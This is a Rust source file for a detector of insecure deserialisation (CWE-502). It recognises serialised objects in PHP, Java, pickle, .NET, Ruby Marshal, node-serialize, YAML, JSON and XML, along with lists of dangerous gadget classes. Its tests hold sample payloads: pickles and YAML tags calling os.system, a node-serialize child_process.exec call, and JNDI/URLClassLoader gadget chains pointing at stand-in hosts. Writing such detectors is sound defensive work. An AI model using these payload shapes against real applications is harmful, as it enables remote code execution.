//! Serialised objects: does the value make an object of a class that its sender chose (CWE-502).
//!
//! Each format is read by its own grammar, raw and in base64 or hexadecimal: PHP's `serialize`, Java's object
//! streams, Python's `pickle`, .NET's `BinaryFormatter`, Ruby's `Marshal`, functions of `node-serialize`,
//! tags of YAML, types in JSON and classes in XML. Lists and texts in PHP's format are data, and left alone;
//! so is base64 of anything else.

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

use crate::finding::{Finding, Language};
use crate::reading::{Hit, judge};
use crate::text::{Bytes, at, before, begins, cut, find, has, has_any, rest, run, stands};

const MARKS: Bytes = Bytes::of(b":\n\x80\xac\x04$!@\"<\0\x01\x02\x03");

/// What decodes base64 of either alphabet, whatever its padding.
const fn base64_of(alphabet: &alphabet::Alphabet) -> GeneralPurpose {
    let config = GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true);
    GeneralPurpose::new(alphabet, config)
}
const STANDARD: GeneralPurpose = base64_of(&alphabet::STANDARD);
const URL_SAFE: GeneralPurpose = base64_of(&alphabet::URL_SAFE);

/// How much of a value in base64 is decoded: the head tells the format, and where the objects begin.
const HEAD: usize = 4096;

/// Finds an object of a class that the sender chose.
///
/// Costs time linear in the input.
#[must_use]
pub fn serialized(input: &[u8]) -> Option<Finding> {
    if !MARKS.any(input) && !may_be_encoded(input) {
        return None;
    }
    judge(Language::Object, input, |text| raw(text).or_else(|| encoded(text)))
}

/// The beginnings of each format in base64 and in hexadecimal.
fn may_be_encoded(text: &[u8]) -> bool {
    let text = text.trim_ascii_start();
    text.len() >= 8
        && [
            &b"rO0AB"[..],
            b"aced00",
            b"gAN",
            b"gAS",
            b"gAJ",
            b"gAR",
            b"gAWV",
            b"gAU",
            b"gAA",
            b"KGRw",
            b"KGkw",
            b"KGxw",
            b"Y29z",
            b"Y19f",
            b"Y3Bvc2l4",
            b"Y3N1Yn",
            b"Y2J1aWx0",
            b"KGNv",
            b"KFMn",
            b"AAEAAAD",
            b"BAh",
            b"BAgi",
            b"BAg",
            b"Tzo",
            b"YTo",
            b"Qzo",
            b"czo",
            b"/wE",
            b"H4sI",
            b"%2F",
            b"KGk",
        ]
        .iter()
        .any(|head| begins(text, head))
        || memchr::memchr(b'%', text).is_some()
}

fn raw(text: &[u8]) -> Option<Hit> {
    let hit = |place: usize, why: &'static str, shape: &'static str| {
        Some(Hit::new("a serialised object", place..text.len(), why, shape))
    };
    if let Some(place) = php(text) {
        return hit(place, "it is an object of PHP of a class that its sender chose", "O:n:class");
    }
    if memchr::memmem::find(text, b"\xac\xed\x00\x05").is_some_and(|place| {
        matches!(
            at(text, place + 4),
            b'r' | b's'
                | b't'
                | b'u'
                | b'v'
                | b'w'
                | b'x'
                | b'y'
                | b'z'
                | b'}'
                | b'~'
                | b'|'
                | b'q'
                | b'p'
                | 0
        )
    }) {
        return hit(0, "it is a stream of Java objects", "java");
    }
    if text.starts_with(b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00") {
        return hit(0, "it is an object of .NET's BinaryFormatter", "dotnet");
    }
    if pickle(text) {
        return hit(0, "it is a pickle of Python that calls", "pickle");
    }
    if marshal(text) {
        return hit(0, "it is an object of Ruby's Marshal", "marshal");
    }
    if let Some(place) = find(text, b"_$$ND_FUNC$$_") {
        return hit(place, "it is a function for node-serialize", "function");
    }
    if let Some(place) = yaml(text) {
        return hit(place, "a tag of YAML makes an object of a class that its sender chose", "!! class");
    }
    if let Some(place) = typed(text) {
        return hit(place, "it names the class of which an object is made", "type: class");
    }
    if let Some(place) = reduced(text) {
        return hit(place, "it is an object of Python in JSON that calls", "py/");
    }
    if let Some(place) = xml(text) {
        return hit(place, "it names the class of which an object is made", "<object class>");
    }
    None
}

/// `O:8:"stdClass":0:{`, `C:11:"ArrayObject":…`, `E:…`: the length must be that of the class's name.
fn php(text: &[u8]) -> Option<usize> {
    memchr::memchr_iter(b':', text).find_map(|colon| {
        let kind = at(text, colon.wrapping_sub(1));
        let before_it = at(text, colon.wrapping_sub(2));
        if !matches!(kind, b'O' | b'C' | b'E' | b'o') || before_it.is_ascii_alphanumeric() {
            return None;
        }
        // `O:+8:` was read too, once.
        let digits = if at(text, colon + 1) == b'+' { colon + 2 } else { colon + 1 };
        let end = run(text, digits, |byte| byte.is_ascii_digit());
        if end == digits || at(text, end) != b':' {
            return None;
        }
        let quote = if at(text, end + 1) == b'\\' { end + 2 } else { end + 1 };
        let name_end = run(text, quote + 1, |byte| {
            byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'\\' | b':') || byte >= 0x80
        });
        let closed = at(text, name_end) == b'"'
            || at(text, name_end) == b'\\' && at(text, name_end + 1) == b'"'
            || at(text, name_end.wrapping_sub(1)) == b'\\' && at(text, name_end) == b'"';
        (at(text, quote) == b'"' && closed && name_end > quote + 1).then(|| colon - 1)
    })
}

/// A pickle that calls: `GLOBAL` and `REDUCE` of protocol 0 to 5, or `INST`, `OBJ`, `NEWOBJ`.
fn pickle(text: &[u8]) -> bool {
    let text = text.trim_ascii_end();
    if text.starts_with(b"\x80") && at(text, 1) <= 5 {
        return text.contains(&b'R') && (text.contains(&b'c') || text.contains(&0x93))
            || has_any(
                text,
                &[b"\x8c\x05posix", b"\x8c\x02os", b"\x8c\x08builtins", b"subprocess", b"\x93"],
            )
            || text.contains(&0x81);
    }
    // Protocol 0 is text: a name of a module and of what is in it, a line each.
    let lines: Vec<&[u8]> = text.split(|&byte| byte == b'\n').take(64).collect();
    let global = lines.windows(2).any(|pair| {
        let [module, name] = pair else { return false };
        let module = module.trim_ascii_end();
        let opcode = module.iter().position(|&byte| byte == b'c' || byte == b'i');
        opcode.is_some_and(|place| {
            let path = rest(module, place + 1);
            place <= 3
                && before(module, place).iter().all(|byte| matches!(byte, b'(' | b'.' | b'}' | b']'))
                && !path.is_empty()
                && path.iter().all(|&byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.'))
                && name.first().is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'_')
                && name
                    .trim_ascii_end()
                    .iter()
                    .all(|&byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.'))
        })
    });
    let calls = [&b"tR"[..], b"(S'", b"(S\"", b"R.", b"(V", b"(t", b"(l", b"\no."];
    // Whatever else it lacks: nothing but a pickle names a function of the system so.
    let system = lines.windows(2).any(|pair| {
        let [module, name] = pair else { return false };
        matches!(
            *module,
            b"cos"
                | b"cposix"
                | b"cnt"
                | b"csubprocess"
                | b"cbuiltins"
                | b"c__builtin__"
                | b"csys"
                | b"cpty"
                | b"ccommands"
                | b"(cos"
                | b"(cposix"
        ) && name.first().is_some_and(u8::is_ascii_lowercase)
    });
    system
        || global
            && calls.iter().any(|opcode| memchr::memmem::find(text, opcode).is_some())
            && text.ends_with(b".")
}

/// Ruby's Marshal 4.8, with an object in it.
fn marshal(text: &[u8]) -> bool {
    text.starts_with(b"\x04\x08")
        && matches!(at(text, 2), b'o' | b'U' | b'u' | b'C' | b'c' | b'm' | b'S' | b'e' | b'[' | b'{' | b'I')
        && (matches!(at(text, 2), b'o' | b'U' | b'u' | b'C' | b'c' | b'm' | b'S' | b'e')
            || has_any(text, &[b"o:", b"U:", b"c\x0f", b"c\x15", b"Gem::"]))
}

/// `!!python/object/apply:os.system`, `!ruby/object:Gem`, `!!javax.script.ScriptEngineManager [`.
fn yaml(text: &[u8]) -> Option<usize> {
    memchr::memchr_iter(b'!', text).find(|&place| {
        let here = cut(text, place..place + 96);
        let tag = rest(here, run(here, 0, |byte| matches!(byte, b'!' | b'<')));
        let tag = tag.strip_prefix(b"tag:yaml.org,2002:").unwrap_or(tag);
        begins(tag, b"python/object")
            || begins(tag, b"python/name:")
            || begins(tag, b"python/module")
            || begins(tag, b"ruby/object")
            || begins(tag, b"ruby/hash")
            || begins(tag, b"ruby/struct")
            || begins(tag, b"ruby/class")
            || begins(tag, b"php/object")
            || begins(tag, b"js/function")
            || begins(tag, b"perl/hash")
            || begins(tag, b"java/object")
            || at(text, place + 1) == b'!'
                && [
                    &b"javax."[..],
                    b"java.",
                    b"com.sun.",
                    b"com.mchange.",
                    b"org.springframework.",
                    b"org.apache.",
                    b"org.eclipse.",
                    b"sun.",
                    b"ch.qos.",
                    b"org.yaml.",
                ]
                .iter()
                .any(|package| begins(tag, package))
    })
}

/// `"@type":"com.sun.…"`, `"$type":"System.…"`, `["com.sun.…", {`
fn typed(text: &[u8]) -> Option<usize> {
    for name in [
        &b"@type\""[..],
        b"$type\"",
        b"@class\"",
        b"__type\"",
        b"javaclass\"",
        b"class\"",
        b"$type'",
        b"@type'",
        b"\\u0040type\"",
        b"\\x40type\"",
    ] {
        let mut from = 0;
        while let Some(place) = crate::text::find_from(text, from, name) {
            from = place + name.len();
            let colon = run(text, from, |byte| byte.is_ascii_whitespace());
            if at(text, colon) != b':' {
                continue;
            }
            let quote = run(text, colon + 1, |byte| byte.is_ascii_whitespace());
            let class = rest(text, quote + 1);
            let dangerous = [
                &b"com.sun."[..],
                b"java.",
                b"javax.",
                b"sun.",
                b"org.apache.",
                b"org.springframework.",
                b"com.mchange.",
                b"ch.qos.logback",
                b"org.hibernate.",
                b"net.sf.",
                b"com.alibaba.",
                b"org.codehaus.",
                b"oracle.jdbc",
                b"br.com.anteros",
                b"Lcom.sun.",
                b"System.",
                b"Microsoft.",
            ]
            .iter()
            .any(|package| class.starts_with(package));
            if dangerous && matches!(at(text, quote), b'"' | b'\'') {
                return Some(place);
            }
        }
    }
    let open = text.trim_ascii_start();
    let listed = [
        &b"[\"com.sun."[..],
        b"[\"sun.",
        b"[\"java.",
        b"[\"javax.",
        b"[\"org.springframework.",
        b"[\"org.apache.",
        b"[\"com.mchange.",
        b"[\"ch.qos.logback",
        b"[\"com.zaxxer",
        b"[\"org.hibernate",
        b"[\"net.sf.ehcache",
        b"[\"br.com.anteros",
        b"[\"com.p6spy",
    ]
    .iter()
    .any(|head| open.starts_with(head));
    listed.then_some(0)
}

/// What jsonpickle makes an object or a call of: `"py/reduce"`, `"py/object"`; `"__reduce__"`.
fn reduced(text: &[u8]) -> Option<usize> {
    [
        &b"\"py/reduce\""[..],
        b"\"py/object\"",
        b"\"py/function\"",
        b"\"py/type\"",
        b"\"py/newargs\"",
        b"\"__reduce__\"",
    ]
    .iter()
    .find_map(|name| find(text, name))
}

/// `<java class="java.beans.XMLDecoder">`, `<object class="java.lang.ProcessBuilder">`, XStream's proxies.
fn xml(text: &[u8]) -> Option<usize> {
    let place = find(text, b"<java")
        .filter(|&place| has(cut(text, place..place + 200), b"java.beans.XMLDecoder"))
        .or_else(|| {
            find(text, b"<object").filter(|&place| {
                has_any(
                    cut(text, place..place + 120),
                    &[b"class=\"java", b"class='java", b"class=\"com.", b"class=\"org."],
                )
            })
        })
        .or_else(|| {
            find(text, b"<void").filter(|&place| {
                has_any(
                    cut(text, place..place + 120),
                    &[b"class=\"java", b"method=\"exec", b"method=\"start"],
                )
            })
        })
        .or_else(|| find(text, b"<dynamic-proxy"))
        .or_else(|| find(text, b"java.beans.EventHandler"))
        .or_else(|| find(text, b"<java.lang.ProcessBuilder"))
        .or_else(|| find(text, b"jdk.nashorn.internal.objects.NativeString"))
        .or_else(|| find(text, b"javax.imageio.ImageIO$ContainsFilter"))
        .or_else(|| find(text, b"<ObjectDataProvider"))
        .or_else(|| {
            find(text, b"System.Windows.Data.ObjectDataProvider")
                .filter(|_| memchr::memchr(b'<', text).is_some())
        })?;
    (place == 0 || has_any(text, &[b"<?xml", b"</"]) || stands(text, place, b"<")).then_some(place)
}

/// The formats that are sent in base64, or in hexadecimal.
fn encoded(text: &[u8]) -> Option<Hit> {
    let text = text.trim_ascii();
    let body = text.strip_prefix(b"base64:").unwrap_or(text);
    let hit = |hit: Hit| Hit { span: 0..text.len(), ..hit };
    if begins(body, b"aced0005") || begins(body, b"0xaced0005") {
        return Some(hit(Hit::new(
            "a serialised object",
            0..0,
            "it is a stream of Java objects",
            "hex java",
        )));
    }
    if !may_be_encoded(body) || memchr::memchr3(b' ', b'<', b'.', body).is_some_and(|place| place < 40) {
        return None;
    }
    let end = run(body, 0, |byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_'));
    let letters = before(body, end.min(HEAD));
    let whole = before(letters, letters.len() / 4 * 4);
    let (head, tail) = if letters.len() < HEAD { (letters, rest(body, end)) } else { (whole, &b""[..]) };
    if !tail
        .iter()
        .all(|byte| matches!(byte, b'=' | b'\n' | b'\r' | b' ' | b'"' | b'%' | b'3' | b'D' | b'd' | b'-'))
        && head.len() < 64
    {
        return None;
    }
    let decoded = if head.iter().any(|byte| matches!(byte, b'-' | b'_')) {
        URL_SAFE.decode(head)
    } else {
        STANDARD.decode(head)
    };
    let decoded = decoded.ok()?;
    if decoded.starts_with(b"\xac\xed\x00\x05") {
        return Some(hit(Hit::new(
            "a serialised object",
            0..0,
            "it is a stream of Java objects in base64",
            "base64 java",
        )));
    }
    // A view state of ASP.NET (`ff 01`) is ordinary; with a formatter's stream inside it is not.
    if decoded.starts_with(b"\xff\x01") {
        let inner = memchr::memmem::find(&decoded, b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00")
            .or_else(|| decoded.starts_with(b"\xff\x01\x00\x00\x00\xff\xff\xff\xff").then_some(0));
        return inner.map(|_| {
            hit(Hit::new(
                "a view state",
                0..0,
                "it holds an object of .NET's BinaryFormatter",
                "base64 dotnet",
            ))
        });
    }
    raw(&decoded).map(hit)
}

#[cfg(test)]
mod tests {
    use super::serialized;
    use base64::Engine as _;

    #[test]
    fn an_object_of_a_chosen_class_is_found() {
        let plain: [&[u8]; 24] = [
            b"O:8:\"stdClass\":0:{}", b"a:1:{i:0;O:4:\"User\":1:{s:4:\"name\";s:1:\"x\";}}", b"C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}", b"O:+4:\"Evil\":0:{}", b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap", b"aced00057372", b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.", b"cos\nsystem\n(S'id'\ntR.", b"(cos\nsystem\nS'id'\no.",
            b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02", b"\x04\x08o:\x08Foo\x00", b"{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}", b"!!python/object/apply:os.system [\"id\"]", b"--- !ruby/object:Gem::Installer\ni: x", b"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]", b"{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x\"}", b"[\"com.sun.rowset.JdbcRowSetImpl\",{}]", b"{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}", b"<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"></object></java>", b"<sorted-set><dynamic-proxy><interface>x</interface></dynamic-proxy></sorted-set>",
            b"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", b"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", b"AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0=", b"O%3A8%3A%22stdClass%22%3A0%3A%7B%7D",
        ];
        let missed: Vec<_> = plain
            .iter()
            .filter(|value| serialized(value).is_none())
            .map(|value| String::from_utf8_lossy(value))
            .collect();
        assert!(missed.is_empty(), "{missed:#?}");
        for value in plain[..5].iter().chain(&plain[6..10]) {
            let encoded = base64::engine::general_purpose::STANDARD.encode(value);
            assert!(
                serialized(encoded.as_bytes()).is_some(),
                "{encoded} of {}",
                String::from_utf8_lossy(value)
            );
        }
    }

    #[test]
    fn data_and_base64_of_other_things_are_left_alone() {
        let ordinary: [&[u8]; 16] = [
            b"a:2:{i:0;s:1:\"a\";i:1;s:1:\"b\";}",
            b"s:5:\"hello\";",
            b"O: 8 points",
            b"TO:5:\"x\"",
            b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
            b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
            b"SGVsbG8gd29ybGQ=",
            b"/wEPDwUKLTg0OTU2ODE5OGRk",
            b"{\"type\":\"System.String\"}",
            b"!important",
            b"wow!!",
            b"{\"@type\":\"Person\",\"name\":\"x\"}",
            b"gas station",
            b"YTo later",
            b"car\nand\ntruck.",
            b"<object data=\"x.swf\"></object>",
        ];
        let alarms: Vec<_> = ordinary
            .iter()
            .filter(|value| serialized(value).is_some())
            .map(|value| String::from_utf8_lossy(value))
            .collect();
        assert!(alarms.is_empty(), "{alarms:#?}");
    }
}
